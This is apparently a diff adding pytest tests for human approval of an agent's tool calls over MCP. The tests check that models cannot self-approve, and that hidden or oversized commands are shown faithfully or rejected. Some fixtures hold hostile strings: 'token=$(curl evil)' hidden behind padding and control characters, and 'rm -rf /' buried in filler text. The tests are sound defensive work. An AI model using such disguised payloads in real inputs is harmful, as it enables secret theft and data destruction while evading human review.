@@ -198,3 +198,69 @@ async def test_a_person_who_does_not_answer_in_time_leaves_the_call_waiting(lett
         answer = await mcp.ok("send_message", agent=agent_id, message="I like tea", wait_seconds=1)
 
     assert answer.data["status"] == "needs_approval"
+
+
+@pytest.mark.parametrize("era", ["legacy", "modern"])
+async def test_a_model_that_approves_is_not_asked_and_the_person_decides(letta: Letta, era: Any) -> None:
+    agent_id, _ = await letta.new_agent(needs_approval="memory_insert")
+    letta.model.enqueue(REMEMBER, Say("Then not."))
+    person = Person(ElicitResult(action="cancel"), ElicitResult(action="decline"))
+
+    async with Way("memory", era).to(asking(letta), person=person) as mcp:
+        asked = await mcp.ok("send_message", agent=agent_id, message="I like tea")
+        place = {"conversation_id": asked.data["conversation_id"]}
+        answer = await mcp.ok("respond_to_approval", **place, approve=True, kinds=["tool"])
+
+    assert asked.data["status"] == "needs_approval"
+    assert len(person.questions) == 2
+    assert answer.data["reply"] == "Then not."
+    assert [call["status"] for call in answer.data["tool_calls"]] == ["denied"]
+
+
+@pytest.mark.parametrize("era", ["legacy", "modern"])
+async def test_where_nobody_can_be_asked_a_model_can_only_deny(letta: Letta, era: Any) -> None:
+    agent_id, _ = await letta.new_agent(needs_approval="memory_insert")
+    letta.model.enqueue(REMEMBER, Say("Then not."))
+
+    async with Way("memory", era).to(asking(letta)) as mcp:
+        asked = await mcp.ok("send_message", agent=agent_id, message="I like tea")
+        place = {"conversation_id": asked.data["conversation_id"]}
+        refusal = await mcp.refused("respond_to_approval", **place, approve=True)
+        answer = await mcp.ok("respond_to_approval", **place, approve=False)
+
+    assert "this client cannot ask" in asked.data["note"]
+    assert "Only a person may approve it" in refusal
+    assert answer.data["reply"] == "Then not."
+
+
+async def test_the_person_sees_exactly_what_would_run(letta: Letta, way: Way) -> None:
+    agent_id, _ = await letta.new_agent(needs_approval="memory_insert")
+    text = "ok" + " " * 1_000 + "token=$(curl evil)\u202e\u200b\x1b[2J"
+    letta.model.enqueue(CallTools((Use("memory_insert", {"label": "human", "new_string": text}),)), Say("No."))
+    person = Person(ElicitResult(action="decline"))
+
+    async with way.to(asking(letta), person=person) as mcp:
+        await mcp.ok("send_message", agent=agent_id, message="go")
+
+    [question] = person.questions
+    assert "ok[1000 spaces]token=$(curl evil)" in question
+    assert len(question.splitlines()) == 3
+    assert all(each.isprintable() for line in question.splitlines() for each in line)
+
+
+async def test_what_does_not_fit_a_dialog_is_not_offered(letta: Letta, way: Way) -> None:
+    agent_id, _ = await letta.new_agent(needs_approval="memory_insert")
+    text = "harmless, " * 300 + "rm -rf /"
+    letta.model.enqueue(CallTools((Use("memory_insert", {"label": "human", "new_string": text}),)), Say("No."))
+    person = Person(yes())
+
+    async with way.to(asking(letta), person=person) as mcp:
+        asked = await mcp.ok("send_message", agent=agent_id, message="go")
+        place = {"conversation_id": asked.data["conversation_id"]}
+        refusal = await mcp.refused("respond_to_approval", **place, approve=True)
+        await mcp.ok("respond_to_approval", **place, approve=False)
+
+    assert asked.data["status"] == "needs_approval"
+    assert "too long for a dialog" in asked.data["note"]
+    assert "too long for a dialog" in refusal
+    assert person.questions == []
